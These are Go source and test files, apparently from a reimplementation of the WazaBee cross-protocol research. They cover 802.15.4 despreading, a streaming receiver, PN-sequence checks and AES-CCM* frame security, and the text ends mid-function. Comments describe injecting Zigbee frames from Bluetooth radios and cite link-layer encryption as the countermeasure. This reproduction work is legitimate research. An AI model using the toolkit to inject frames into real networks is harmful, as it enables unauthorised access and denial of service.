		result = "fail"
	}
	reg.Counter("wazabee_crc_checks_total", "decoder", "oqpsk", "result", result).Inc()
	return dem, st, nil
}

// DecodePPDUFromTransitions walks a hard-decision MSK transition stream
// starting at the beginning of a preamble symbol, locates the SFD and
// decodes the PPDU by minimum-distance despreading of 31-transition
// blocks (one boundary transition between blocks is skipped). pos indexes
// the transition effected by chip 1 of a preamble symbol — the position a
// correlator locks to.
//
// Both the legitimate O-QPSK receiver and the WazaBee BLE receiver reduce
// to this decoder; that shared structure is the equivalence the paper
// demonstrates.
func DecodePPDUFromTransitions(bits bitstream.Bits, pos int) (*Demodulated, error) {
	symbolAt := func(n int) (sym, dist int, ok bool) {
		start := pos + n*ChipsPerSymbol
		if start+ChipsPerSymbol-1 > len(bits) {
			return 0, 0, false
		}
		block := bits[start : start+ChipsPerSymbol-1]
		s, d, err := closestSymbolByTransitions(block)
		if err != nil {
			return 0, 0, false
		}
		return s, d, true
	}

	// Scan for the SFD symbol pair (0x7 then 0xA, low nibble first)
	// within the window the preamble length allows.
	const maxPreambleSymbols = PreambleLength*SymbolsPerByte + 2
	sfdAt := -1
	for n := 0; n < maxPreambleSymbols; n++ {
		s1, _, ok1 := symbolAt(n)
		s2, _, ok2 := symbolAt(n + 1)
		if !ok1 || !ok2 {
			return nil, ErrNoSync
		}
		if s1 == int(SFD&0x0f) && s2 == int(SFD>>4) {
			sfdAt = n
			break
		}
	}
	if sfdAt < 0 {
		return nil, ErrNoSync
	}

	worst, total, count := 0, 0, 0
	var hist [17]uint32
	record := func(d int) {
		if d > worst {
			worst = d
		}
		total += d
		count++
		if d > 16 {
			d = 16
		}
		hist[d]++
	}
	readByte := func(n int) (byte, bool) {
		lo, d1, ok1 := symbolAt(n)
		hi, d2, ok2 := symbolAt(n + 1)
		if !ok1 || !ok2 {
			return 0, false
		}
		record(d1)
		record(d2)
		return byte(lo) | byte(hi)<<4, true
	}

	phr, ok := readByte(sfdAt + 2)
	if !ok || int(phr) > MaxPSDULength {
		return nil, ErrNoSync
	}
	psdu := make([]byte, 0, phr)
	for i := 0; i < int(phr); i++ {
		b, ok := readByte(sfdAt + 4 + 2*i)
		if !ok {
			return nil, ErrNoSync
		}
		psdu = append(psdu, b)
	}
	ppdu, err := NewPPDU(psdu)
	if err != nil {
		return nil, err
	}
	return &Demodulated{
		PPDU:              ppdu,
		WorstChipDistance: worst,
		TotalChipDistance: total,
		SymbolCount:       count,
		ChipDistHist:      hist,
		TransitionSpan:    (sfdAt + 4 + 2*int(phr)) * ChipsPerSymbol,
	}, nil
}

// MeanChipDistance returns the average per-symbol despreading distance,
// or zero for an empty frame.
func (d *Demodulated) MeanChipDistance() float64 {
	if d.SymbolCount == 0 {
		return 0
	}
	return float64(d.TotalChipDistance) / float64(d.SymbolCount)
}

// transitionTable caches the 31-bit MSK transition encoding of each PN
// sequence, the alphabet of the MSK-view despreader.
var transitionTable = buildTransitionTable()

func buildTransitionTable() [16]bitstream.Bits {
	var out [16]bitstream.Bits
	for s := range pnTable {
		out[s] = ChipTransitions(pnTable[s])
	}
	return out
}

// closestSymbolByTransitions despreads a 31-bit transition block by
// minimum Hamming distance over the 16 MSK-encoded PN sequences.
func closestSymbolByTransitions(block bitstream.Bits) (symbol, distance int, err error) {
	if len(block) != ChipsPerSymbol-1 {
		return 0, 0, fmt.Errorf("ieee802154: transition block length %d, want %d", len(block), ChipsPerSymbol-1)
	}
	bestSym, bestDist := 0, ChipsPerSymbol
	for s := 0; s < 16; s++ {
		d, derr := bitstream.HammingDistance(block, transitionTable[s])
		if derr != nil {
			return 0, 0, derr
		}
		if d < bestDist {
			bestDist = d
			bestSym = s
		}
	}
	return bestSym, bestDist, nil
}

// TransitionAlphabet returns a copy of the 31-bit MSK transition encoding
// of each PN sequence, indexed by symbol.
func TransitionAlphabet() [16]bitstream.Bits {
	var out [16]bitstream.Bits
	for i := range transitionTable {
		out[i] = bitstream.Clone(transitionTable[i])
	}
	return out
}
