package ieee802154

import (
	"bytes"
	"errors"
	"math/rand"
	"testing"

	"wazabee/internal/bitstream"
)

// frameTransitions builds the MSK transition stream of a spread PPDU —
// the bit stream a synchronised receiver hands the despreader.
func frameTransitions(t *testing.T, psdu []byte) bitstream.Bits {
	t.Helper()
	ppdu, err := NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	return ChipTransitions(Spread(ppdu.Bytes()))
}

// feedInChunks drives a TransitionDespreader with growing prefixes of
// bits, cut at the given split points, and returns its final verdict.
func feedInChunks(d *TransitionDespreader, bits bitstream.Bits, chunk int) (*Demodulated, error) {
	for end := chunk; ; end += chunk {
		if end > len(bits) {
			end = len(bits)
		}
		dem, done, err := d.Feed(bits[:end])
		if err != nil {
			return nil, err
		}
		if done {
			return dem, nil
		}
		if end == len(bits) {
			return nil, d.Conclude()
		}
	}
}

// TestTransitionDespreaderMatchesOneShot: for every feed granularity,
// the streaming despreader must produce the identical Demodulated (or
// identical error) as DecodePPDUFromTransitions.
func TestTransitionDespreaderMatchesOneShot(t *testing.T) {
	psdu := []byte{0x41, 0x88, 0x2a, 0x34, 0x12, 0xff, 0x0f, 0x42, 0x99}
	bits := frameTransitions(t, psdu)

	want, wantErr := DecodePPDUFromTransitions(bits, 0)
	if wantErr != nil {
		t.Fatal(wantErr)
	}

	for _, chunk := range []int{1, 7, 30, 31, 32, 63, 500, len(bits)} {
		d := NewTransitionDespreader()
		got, err := feedInChunks(d, bits, chunk)
		if err != nil {
			t.Fatalf("chunk=%d: %v", chunk, err)
		}
		if !bytes.Equal(got.PPDU.PSDU, want.PPDU.PSDU) {
			t.Fatalf("chunk=%d: PSDU % x, want % x", chunk, got.PPDU.PSDU, want.PPDU.PSDU)
		}
		if got.WorstChipDistance != want.WorstChipDistance ||
			got.TotalChipDistance != want.TotalChipDistance ||
			got.SymbolCount != want.SymbolCount ||
			got.ChipDistHist != want.ChipDistHist ||
			got.TransitionSpan != want.TransitionSpan {
			t.Fatalf("chunk=%d: evidence %+v, want %+v", chunk, got, want)
		}
	}
}

// TestTransitionDespreaderCorruptedParity: with chip errors injected,
// the streaming and one-shot decoders must still agree — including the
// per-symbol distance histogram.
func TestTransitionDespreaderCorruptedParity(t *testing.T) {
	psdu := []byte{0xde, 0xad, 0xbe, 0xef, 0x01, 0x02}
	base := frameTransitions(t, psdu)
	rnd := rand.New(rand.NewSource(3))
	for trial := 0; trial < 20; trial++ {
		bits := bitstream.Clone(base)
		for i := 0; i < 12; i++ {
			bits[rnd.Intn(len(bits))] ^= 1
		}
		want, wantErr := DecodePPDUFromTransitions(bits, 0)

		d := NewTransitionDespreader()
		got, err := feedInChunks(d, bits, 1+rnd.Intn(97))

		if (wantErr == nil) != (err == nil) {
			t.Fatalf("trial %d: streaming err %v, one-shot err %v", trial, err, wantErr)
		}
		if wantErr != nil {
			if err.Error() != wantErr.Error() {
				t.Fatalf("trial %d: error %q, want %q", trial, err, wantErr)
			}
			continue
		}
		if !bytes.Equal(got.PPDU.PSDU, want.PPDU.PSDU) || got.ChipDistHist != want.ChipDistHist ||
			got.WorstChipDistance != want.WorstChipDistance || got.TransitionSpan != want.TransitionSpan {
			t.Fatalf("trial %d: streaming %+v, one-shot %+v", trial, got, want)
		}
	}
}

// TestTransitionDespreaderTruncation: a stream that ends mid-frame must
// conclude with the one-shot decoder's truncation verdict (ErrNoSync),
// and a stream with no SFD must abort permanently.
func TestTransitionDespreaderTruncation(t *testing.T) {
	psdu := []byte{1, 2, 3, 4}
	bits := frameTransitions(t, psdu)

	truncated := bits[:len(bits)/2]
	wantDem, wantErr := DecodePPDUFromTransitions(truncated, 0)
	if wantErr == nil || wantDem != nil {
		t.Fatal("truncated reference decode unexpectedly succeeded")
	}
	d := NewTransitionDespreader()
	if dem, err := feedInChunks(d, truncated, 13); err == nil || dem != nil {
		t.Fatal("truncated streaming decode unexpectedly succeeded")
	} else if err.Error() != wantErr.Error() {
		t.Fatalf("truncation error %q, want %q", err, wantErr)
	}

	// All-zero transitions: the SFD never appears inside the preamble
	// window — the permanent abort must match one-shot and persist.
	junk := make(bitstream.Bits, 4096)
	_, wantErr = DecodePPDUFromTransitions(junk, 0)
	if wantErr == nil {
		t.Fatal("reference decode of zero transitions succeeded")
	}
	d = NewTransitionDespreader()
	_, err := feedInChunks(d, junk, 64)
	if err == nil || err.Error() != wantErr.Error() {
		t.Fatalf("no-SFD error %q, want %q", err, wantErr)
	}
	if !errors.Is(err, ErrNoSync) {
		t.Errorf("no-SFD error %v does not wrap ErrNoSync", err)
	}
	if _, _, ferr := d.Feed(junk); ferr == nil {
		t.Error("despreader recovered from a permanent abort without Reset")
	}

	// Reset must make it decode again.
	d.Reset()
	if dem, err := feedInChunks(d, bits, 1000); err != nil || dem == nil {
		t.Fatalf("decode after Reset failed: %v", err)
	}
}

// TestAppendSpread: the pooled appending form must produce exactly the
// chips of Spread, appended after the existing prefix.
func TestAppendSpread(t *testing.T) {
	data := []byte{0x00, 0xa7, 0x5b, 0xff}
	want := Spread(data)
	prefix := bitstream.Bits{1, 0, 1}
	got := AppendSpread(bitstream.Clone(prefix), data)
	if len(got) != len(prefix)+len(want) {
		t.Fatalf("AppendSpread length %d, want %d", len(got), len(prefix)+len(want))
	}
	if got[:3].String() != prefix.String() {
		t.Error("AppendSpread clobbered the prefix")
	}
	if got[3:].String() != want.String() {
		t.Error("AppendSpread chips differ from Spread")
	}
}
