package ieee802154

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"
)

var (
	testKey   = []byte{0xc0, 0xc1, 0xc2, 0xc3, 0xc4, 0xc5, 0xc6, 0xc7, 0xc8, 0xc9, 0xca, 0xcb, 0xcc, 0xcd, 0xce, 0xcf}
	testNonce = Nonce(0x00124b000001e2f3, 42, SecEncMIC32)
)

func TestSecurityLevelProperties(t *testing.T) {
	tests := []struct {
		level     SecurityLevel
		mic       int
		encrypted bool
	}{
		{SecNone, 0, false},
		{SecMIC32, 4, false},
		{SecMIC64, 8, false},
		{SecMIC128, 16, false},
		{SecEncMIC32, 4, true},
		{SecEncMIC64, 8, true},
		{SecEncMIC128, 16, true},
	}
	for _, tt := range tests {
		if got := tt.level.MICLength(); got != tt.mic {
			t.Errorf("level %d MIC length = %d, want %d", tt.level, got, tt.mic)
		}
		if got := tt.level.Encrypted(); got != tt.encrypted {
			t.Errorf("level %d encrypted = %v, want %v", tt.level, got, tt.encrypted)
		}
	}
}

func TestNonceLayout(t *testing.T) {
	n := Nonce(0x0102030405060708, 0x0a0b0c0d, SecEncMIC64)
	want := [13]byte{1, 2, 3, 4, 5, 6, 7, 8, 0x0a, 0x0b, 0x0c, 0x0d, byte(SecEncMIC64)}
	if n != want {
		t.Errorf("nonce = % x, want % x", n, want)
	}
}

func TestSecureOpenRoundTripAllLevels(t *testing.T) {
	header := []byte{0x61, 0x88, 0x05, 0x34, 0x12}
	payload := []byte("temperature=23")
	for _, level := range []SecurityLevel{SecNone, SecMIC32, SecMIC64, SecMIC128, SecEncMIC32, SecEncMIC64, SecEncMIC128} {
		nonce := Nonce(0xdead, 7, level)
		secured, err := SecureFrame(testKey, nonce, level, header, payload)
		if err != nil {
			t.Fatalf("level %d: %v", level, err)
		}
		if wantLen := len(payload) + level.MICLength(); len(secured) != wantLen {
			t.Errorf("level %d: secured length %d, want %d", level, len(secured), wantLen)
		}
		opened, err := OpenFrame(testKey, nonce, level, header, secured)
		if err != nil {
			t.Fatalf("level %d: open: %v", level, err)
		}
		if !bytes.Equal(opened, payload) {
			t.Errorf("level %d: payload mismatch", level)
		}
	}
}

func TestEncryptionActuallyEncrypts(t *testing.T) {
	payload := []byte("secret reading!!")
	secured, err := SecureFrame(testKey, testNonce, SecEncMIC32, nil, payload)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(secured, payload[:8]) {
		t.Error("encrypted payload contains plaintext")
	}
	// Authentication-only levels transmit the payload in clear.
	authOnly, err := SecureFrame(testKey, testNonce, SecMIC32, nil, payload)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(authOnly, payload) {
		t.Error("MIC-only payload is not cleartext")
	}
}

func TestOpenRejectsTampering(t *testing.T) {
	header := []byte{0x61, 0x88}
	payload := []byte{1, 2, 3, 4, 5, 6, 7, 8}
	secured, err := SecureFrame(testKey, testNonce, SecEncMIC64, header, payload)
	if err != nil {
		t.Fatal(err)
	}
	for i := range secured {
		bad := append([]byte{}, secured...)
		bad[i] ^= 0x80
		if _, err := OpenFrame(testKey, testNonce, SecEncMIC64, header, bad); !errors.Is(err, ErrAuthFailed) {
			t.Fatalf("tampered byte %d accepted (err=%v)", i, err)
		}
	}
	// Tampering with the authenticated header also fails.
	badHeader := append([]byte{}, header...)
	badHeader[0] ^= 1
	if _, err := OpenFrame(testKey, testNonce, SecEncMIC64, badHeader, secured); !errors.Is(err, ErrAuthFailed) {
		t.Error("tampered header accepted")
	}
}

func TestOpenRejectsWrongKeyAndNonce(t *testing.T) {
	payload := []byte{9, 9, 9}
	secured, err := SecureFrame(testKey, testNonce, SecEncMIC32, nil, payload)
	if err != nil {
		t.Fatal(err)
	}
	wrongKey := append([]byte{}, testKey...)
	wrongKey[0] ^= 1
	if _, err := OpenFrame(wrongKey, testNonce, SecEncMIC32, nil, secured); !errors.Is(err, ErrAuthFailed) {
		t.Error("wrong key accepted")
	}
	// A replayed frame counter produces a different nonce and fails —
	// the replay-protection property.
	otherNonce := Nonce(0x00124b000001e2f3, 43, SecEncMIC32)
	if _, err := OpenFrame(testKey, otherNonce, SecEncMIC32, nil, secured); !errors.Is(err, ErrAuthFailed) {
		t.Error("wrong frame counter accepted")
	}
}

func TestSecureFrameErrors(t *testing.T) {
	if _, err := SecureFrame([]byte{1, 2, 3}, testNonce, SecEncMIC32, nil, []byte{1}); err == nil {
		t.Error("expected error for short key")
	}
	if _, err := OpenFrame([]byte{1, 2, 3}, testNonce, SecEncMIC32, nil, []byte{1, 2, 3, 4, 5}); err == nil {
		t.Error("expected error for short key on open")
	}
	if _, err := OpenFrame(testKey, testNonce, SecEncMIC32, nil, []byte{1}); err == nil {
		t.Error("expected error for payload shorter than MIC")
	}
}

func TestSecureOpenProperty(t *testing.T) {
	f := func(header, payload []byte, counter uint32) bool {
		nonce := Nonce(0xfeed, counter, SecEncMIC64)
		secured, err := SecureFrame(testKey, nonce, SecEncMIC64, header, payload)
		if err != nil {
			return false
		}
		opened, err := OpenFrame(testKey, nonce, SecEncMIC64, header, secured)
		return err == nil && bytes.Equal(opened, payload)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestCiphertextDiffersAcrossCounters(t *testing.T) {
	payload := []byte("same plaintext each time")
	a, err := SecureFrame(testKey, Nonce(1, 1, SecEncMIC32), SecEncMIC32, nil, payload)
	if err != nil {
		t.Fatal(err)
	}
	b, err := SecureFrame(testKey, Nonce(1, 2, SecEncMIC32), SecEncMIC32, nil, payload)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(a, b) {
		t.Error("different frame counters produced identical ciphertexts")
	}
}
