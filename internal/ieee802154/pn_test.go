package ieee802154

import (
	"testing"
	"testing/quick"

	"wazabee/internal/bitstream"
)

func TestPNSequenceTableI(t *testing.T) {
	// Spot-check rows of Table I against the paper text.
	tests := []struct {
		symbol int
		want   string
	}{
		{symbol: 0, want: "11011001110000110101001000101110"},
		{symbol: 1, want: "11101101100111000011010100100010"},
		{symbol: 8, want: "10001100100101100000011101111011"},
		{symbol: 15, want: "11001001011000000111011110111000"},
	}
	for _, tt := range tests {
		got, err := PNSequence(tt.symbol)
		if err != nil {
			t.Fatal(err)
		}
		if got.String() != tt.want {
			t.Errorf("PN[%d] = %s, want %s", tt.symbol, got, tt.want)
		}
	}
}

func TestPNSequenceRange(t *testing.T) {
	if _, err := PNSequence(-1); err == nil {
		t.Error("expected error for symbol -1")
	}
	if _, err := PNSequence(16); err == nil {
		t.Error("expected error for symbol 16")
	}
}

func TestPNCyclicShiftStructure(t *testing.T) {
	// IEEE 802.15.4 structure: PN[k] for k=1..7 is PN[0] cyclically
	// rotated right by 4k chips.
	base := pnTable[0]
	for k := 1; k <= 7; k++ {
		shift := (4 * k) % ChipsPerSymbol
		want := make(bitstream.Bits, ChipsPerSymbol)
		for i := 0; i < ChipsPerSymbol; i++ {
			want[(i+shift)%ChipsPerSymbol] = base[i]
		}
		if pnTable[k].String() != want.String() {
			t.Errorf("PN[%d] is not PN[0] rotated right by %d chips", k, shift)
		}
	}
}

func TestPNConjugateStructure(t *testing.T) {
	// PN[k+8] equals PN[k] with every odd-indexed chip inverted (the
	// "conjugate" sequences of the standard).
	for k := 0; k < 8; k++ {
		want := bitstream.Clone(pnTable[k])
		for i := 1; i < ChipsPerSymbol; i += 2 {
			want[i] ^= 1
		}
		if pnTable[k+8].String() != want.String() {
			t.Errorf("PN[%d] is not the odd-chip conjugate of PN[%d]", k+8, k)
		}
	}
}

func TestPNPairwiseDistance(t *testing.T) {
	// The sequences are quasi-orthogonal: any two differ in at least 12
	// chip positions, which is what makes Hamming decoding work.
	for a := 0; a < 16; a++ {
		for b := a + 1; b < 16; b++ {
			d, err := bitstream.HammingDistance(pnTable[a], pnTable[b])
			if err != nil {
				t.Fatal(err)
			}
			if d < 12 {
				t.Errorf("PN[%d] vs PN[%d] Hamming distance %d < 12", a, b, d)
			}
		}
	}
}

func TestPNSequencesReturnsCopies(t *testing.T) {
	seqs := PNSequences()
	seqs[0][0] ^= 1
	fresh, _ := PNSequence(0)
	if fresh[0] == seqs[0][0] {
		t.Error("PNSequences exposes internal table storage")
	}
}

func TestClosestSymbolExact(t *testing.T) {
	for s := 0; s < 16; s++ {
		got, d, err := ClosestSymbol(pnTable[s])
		if err != nil {
			t.Fatal(err)
		}
		if got != s || d != 0 {
			t.Errorf("ClosestSymbol(PN[%d]) = (%d,%d), want (%d,0)", s, got, d, s)
		}
	}
}

func TestClosestSymbolErrorCorrection(t *testing.T) {
	// Up to 5 chip errors (< half the minimum distance 12) must always
	// decode to the original symbol.
	for s := 0; s < 16; s++ {
		chips := bitstream.Clone(pnTable[s])
		for i := 0; i < 5; i++ {
			chips[(s*7+i*3)%ChipsPerSymbol] ^= 1
		}
		got, d, err := ClosestSymbol(chips)
		if err != nil {
			t.Fatal(err)
		}
		if got != s {
			t.Errorf("symbol %d with 5 chip errors decoded as %d", s, got)
		}
		if d != 5 {
			t.Errorf("distance = %d, want 5", d)
		}
	}
}

func TestClosestSymbolLength(t *testing.T) {
	if _, _, err := ClosestSymbol(make(bitstream.Bits, 31)); err == nil {
		t.Error("expected error for short chip block")
	}
}

func TestSpreadDespreadRoundTrip(t *testing.T) {
	f := func(data []byte) bool {
		got, worst, err := Despread(Spread(data))
		if err != nil || worst != 0 {
			return false
		}
		if len(got) != len(data) {
			return false
		}
		for i := range data {
			if got[i] != data[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestSpreadNibbleOrder(t *testing.T) {
	chips := Spread([]byte{0x8f})
	// Low nibble 0xf is spread first.
	if chips[:ChipsPerSymbol].String() != pnTable[0x0f].String() {
		t.Error("low nibble not spread first")
	}
	if chips[ChipsPerSymbol:].String() != pnTable[0x08].String() {
		t.Error("high nibble not spread second")
	}
}

func TestSpreadSymbols(t *testing.T) {
	chips, err := SpreadSymbols([]byte{0, 7})
	if err != nil {
		t.Fatal(err)
	}
	if len(chips) != 2*ChipsPerSymbol {
		t.Fatalf("chip count = %d", len(chips))
	}
	if _, err := SpreadSymbols([]byte{16}); err == nil {
		t.Error("expected error for out-of-range symbol")
	}
}

func TestDespreadLengthValidation(t *testing.T) {
	if _, _, err := Despread(make(bitstream.Bits, 63)); err == nil {
		t.Error("expected error for partial chip stream")
	}
}

func TestChipTransitionsClosedForm(t *testing.T) {
	// Hand-computed transitions for PN[0] (see the derivation in
	// spread.go): chips 1101 1001 1100 0011 ... give transitions
	// beginning 1 1 0 0 0 0 0 0 1 1 1.
	trans := ChipTransitions(pnTable[0])
	if len(trans) != 31 {
		t.Fatalf("transition count = %d, want 31", len(trans))
	}
	wantPrefix := "11000000111"
	if got := trans[:11].String(); got != wantPrefix {
		t.Errorf("transitions prefix = %s, want %s", got, wantPrefix)
	}
}

func TestChipTransitionsShortInput(t *testing.T) {
	if ChipTransitions(bitstream.Bits{1}) != nil {
		t.Error("single chip should produce no transitions")
	}
	if ChipTransitions(nil) != nil {
		t.Error("empty chip stream should produce no transitions")
	}
}

func TestTransitionAlphabetDistinct(t *testing.T) {
	// All 16 MSK-encoded PN sequences must be pairwise distinct with
	// healthy Hamming separation, otherwise the WazaBee receiver could
	// not tell symbols apart.
	alpha := TransitionAlphabet()
	for a := 0; a < 16; a++ {
		for b := a + 1; b < 16; b++ {
			d, err := bitstream.HammingDistance(alpha[a], alpha[b])
			if err != nil {
				t.Fatal(err)
			}
			if d < 8 {
				t.Errorf("MSK alphabet %d vs %d distance %d < 8", a, b, d)
			}
		}
	}
}

func TestTransitionAlphabetMatchesTable(t *testing.T) {
	alpha := TransitionAlphabet()
	for s := 0; s < 16; s++ {
		if alpha[s].String() != ChipTransitions(pnTable[s]).String() {
			t.Errorf("cached transition row %d out of date", s)
		}
	}
	// Returned rows must be copies.
	alpha[3][0] ^= 1
	if transitionTable[3][0] == alpha[3][0] {
		t.Error("TransitionAlphabet exposes internal storage")
	}
}
