package ieee802154

import (
	"wazabee/internal/bitstream"
)

// TransitionDespreader is the streaming form of
// DecodePPDUFromTransitions: the despreading + frame-assembly stage of
// the stage-composable receive pipeline. It is fed the CFO-corrected
// hard-decision transition stream starting at the synchronisation
// position (pos 0 = the transition a correlator locks to) and consumes
// 31-transition symbol blocks incrementally — SFD search, PHR, then
// PSDU bytes — carrying its cursor across chunk boundaries so arbitrary
// feed granularity produces the identical Demodulated a whole-capture
// decode would.
//
// Feed is resumable: call it again with the (longer) bit stream after
// more data arrives. It returns
//
//   - (nil, false, nil) when more transitions are needed,
//   - (dem, true, nil) once the frame is complete,
//   - (nil, false, err) on a permanent abort (SFD not inside the
//     preamble window, oversized PHR, invalid PSDU) — exactly the error
//     the one-shot decoder returns.
type TransitionDespreader struct {
	// searched is the next preamble offset to test for the SFD.
	searched int
	// sfdAt is the symbol offset of the SFD, or -1 while still searching.
	sfdAt int
	// phr is the decoded frame-length octet, or -1 before it is read.
	phr int
	// nextByte indexes the next PSDU byte to despread.
	nextByte int
	psdu     []byte

	worst, total, count int
	hist                [17]uint32
	failed              error
	done                bool
}

// NewTransitionDespreader returns a despreader ready for a new frame.
func NewTransitionDespreader() *TransitionDespreader {
	d := &TransitionDespreader{}
	d.Reset()
	return d
}

// Name implements the stream.Stage surface.
func (d *TransitionDespreader) Name() string { return "despread" }

// Reset implements the stream.Stage surface: it rewinds the despreader
// for the next frame, keeping the PSDU buffer's capacity.
func (d *TransitionDespreader) Reset() {
	d.searched = 0
	d.sfdAt = -1
	d.phr = -1
	d.nextByte = 0
	d.psdu = d.psdu[:0]
	d.worst, d.total, d.count = 0, 0, 0
	d.hist = [17]uint32{}
	d.failed = nil
	d.done = false
}

// symbolAt despreads the n-th 31-transition block of bits, mirroring
// the symbolAt closure of DecodePPDUFromTransitions (pos fixed at 0).
func (d *TransitionDespreader) symbolAt(bits bitstream.Bits, n int) (sym, dist int, ok bool) {
	start := n * ChipsPerSymbol
	if start+ChipsPerSymbol-1 > len(bits) {
		return 0, 0, false
	}
	s, dd, err := closestSymbolByTransitions(bits[start : start+ChipsPerSymbol-1])
	if err != nil {
		return 0, 0, false
	}
	return s, dd, true
}

// record folds one symbol's despreading distance into the quality
// evidence, identically to the one-shot decoder.
func (d *TransitionDespreader) record(dist int) {
	if dist > d.worst {
		d.worst = dist
	}
	d.total += dist
	d.count++
	if dist > 16 {
		dist = 16
	}
	d.hist[dist]++
}

// Feed advances the decode over bits, the full transition stream from
// the lock position gathered so far. See the type comment for the
// return protocol. After a permanent error or a completed frame the
// despreader stays in that state until Reset.
func (d *TransitionDespreader) Feed(bits bitstream.Bits) (*Demodulated, bool, error) {
	if d.failed != nil {
		return nil, false, d.failed
	}
	if d.done {
		return nil, false, nil
	}

	// SFD search inside the window the preamble length allows.
	const maxPreambleSymbols = PreambleLength*SymbolsPerByte + 2
	for d.sfdAt < 0 {
		if d.searched >= maxPreambleSymbols {
			d.failed = ErrNoSync
			return nil, false, d.failed
		}
		s1, _, ok1 := d.symbolAt(bits, d.searched)
		s2, _, ok2 := d.symbolAt(bits, d.searched+1)
		if !ok1 || !ok2 {
			return nil, false, nil // need more transitions
		}
		if s1 == int(SFD&0x0f) && s2 == int(SFD>>4) {
			d.sfdAt = d.searched
			break
		}
		d.searched++
	}

	// PHR: the frame-length octet right after the SFD.
	if d.phr < 0 {
		lo, d1, ok1 := d.symbolAt(bits, d.sfdAt+2)
		hi, d2, ok2 := d.symbolAt(bits, d.sfdAt+3)
		if !ok1 || !ok2 {
			return nil, false, nil
		}
		d.record(d1)
		d.record(d2)
		phr := int(byte(lo) | byte(hi)<<4)
		if phr > MaxPSDULength {
			d.failed = ErrNoSync
			return nil, false, d.failed
		}
		d.phr = phr
	}

	// PSDU bytes, two symbols each.
	for d.nextByte < d.phr {
		n := d.sfdAt + 4 + 2*d.nextByte
		lo, d1, ok1 := d.symbolAt(bits, n)
		hi, d2, ok2 := d.symbolAt(bits, n+1)
		if !ok1 || !ok2 {
			return nil, false, nil
		}
		d.record(d1)
		d.record(d2)
		d.psdu = append(d.psdu, byte(lo)|byte(hi)<<4)
		d.nextByte++
	}

	ppdu, err := NewPPDU(append([]byte(nil), d.psdu...))
	if err != nil {
		d.failed = err
		return nil, false, d.failed
	}
	d.done = true
	return &Demodulated{
		PPDU:              ppdu,
		WorstChipDistance: d.worst,
		TotalChipDistance: d.total,
		SymbolCount:       d.count,
		ChipDistHist:      d.hist,
		TransitionSpan:    (d.sfdAt + 4 + 2*d.phr) * ChipsPerSymbol,
	}, true, nil
}

// Conclude converts a mid-frame state into the error the one-shot
// decoder reports for a truncated capture: ErrNoSync when the stream
// ended before the frame completed, or the recorded permanent failure.
// It returns nil when the frame had completed.
func (d *TransitionDespreader) Conclude() error {
	if d.done {
		return nil
	}
	if d.failed != nil {
		return d.failed
	}
	return ErrNoSync
}
