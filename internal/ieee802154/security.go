package ieee802154

// IEEE 802.15.4-2015 §9 / Annex B security: AES-128 CCM* authenticated
// encryption with the standard 13-byte nonce (8-byte source identifier,
// 4-byte frame counter, 1-byte security level).
//
// Section VII of the paper names link-layer cryptography as the main
// counter-measure that survives WazaBee: the attack still injects
// perfectly modulated frames, but without the network key they fail
// authentication and are dropped (denial of service remains possible).
// The secured-network tests demonstrate exactly that.

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/subtle"
	"encoding/binary"
	"errors"
	"fmt"
)

// SecurityLevel encodes the MIC length and whether the payload is
// encrypted, per table 9-6 of the standard.
type SecurityLevel uint8

const (
	// SecNone applies no protection.
	SecNone SecurityLevel = 0
	// SecMIC32, SecMIC64 and SecMIC128 authenticate without encrypting.
	SecMIC32  SecurityLevel = 1
	SecMIC64  SecurityLevel = 2
	SecMIC128 SecurityLevel = 3
	// SecEncMIC32, SecEncMIC64 and SecEncMIC128 encrypt and
	// authenticate.
	SecEncMIC32  SecurityLevel = 5
	SecEncMIC64  SecurityLevel = 6
	SecEncMIC128 SecurityLevel = 7
)

// MICLength returns the message integrity code length in bytes.
func (l SecurityLevel) MICLength() int {
	switch l & 0x3 {
	case 1:
		return 4
	case 2:
		return 8
	case 3:
		return 16
	default:
		return 0
	}
}

// Encrypted reports whether the level encrypts the payload.
func (l SecurityLevel) Encrypted() bool {
	return l&0x4 != 0
}

// ErrAuthFailed is returned when a MIC does not verify — the fate of a
// WazaBee-injected frame on a secured network.
var ErrAuthFailed = errors.New("ieee802154: message authentication failed")

// Nonce builds the 13-byte CCM* nonce from the source identifier (the
// 8-byte extended address of the originator), the frame counter and the
// security level.
func Nonce(source uint64, frameCounter uint32, level SecurityLevel) [13]byte {
	var n [13]byte
	binary.BigEndian.PutUint64(n[0:8], source)
	binary.BigEndian.PutUint32(n[8:12], frameCounter)
	n[12] = byte(level)
	return n
}

// SecureFrame applies CCM* protection to a payload: it returns the
// (possibly encrypted) payload followed by the MIC. header is the
// authenticated-but-cleartext data (the MAC header including the
// auxiliary security header).
func SecureFrame(key []byte, nonce [13]byte, level SecurityLevel, header, payload []byte) ([]byte, error) {
	if level == SecNone {
		return append([]byte{}, payload...), nil
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, fmt.Errorf("ieee802154: %w", err)
	}
	m := level.MICLength()

	var auth, plain []byte
	if level.Encrypted() {
		auth, plain = header, payload
	} else {
		// Authentication-only levels authenticate header+payload and
		// transmit the payload in clear.
		auth = make([]byte, 0, len(header)+len(payload))
		auth = append(auth, header...)
		auth = append(auth, payload...)
		plain = nil
	}

	tag := ccmAuthTag(block, nonce, auth, plain, m)
	ct := ctrCrypt(block, nonce, plain)
	encTag := ctrCryptBlock0(block, nonce, tag)

	out := make([]byte, 0, len(payload)+m)
	if level.Encrypted() {
		out = append(out, ct...)
	} else {
		out = append(out, payload...)
	}
	return append(out, encTag...), nil
}

// OpenFrame verifies and (when encrypted) decrypts a secured payload
// produced by SecureFrame. It returns ErrAuthFailed when the MIC does
// not verify.
func OpenFrame(key []byte, nonce [13]byte, level SecurityLevel, header, secured []byte) ([]byte, error) {
	if level == SecNone {
		return append([]byte{}, secured...), nil
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, fmt.Errorf("ieee802154: %w", err)
	}
	m := level.MICLength()
	if len(secured) < m {
		return nil, fmt.Errorf("ieee802154: secured payload shorter than MIC")
	}
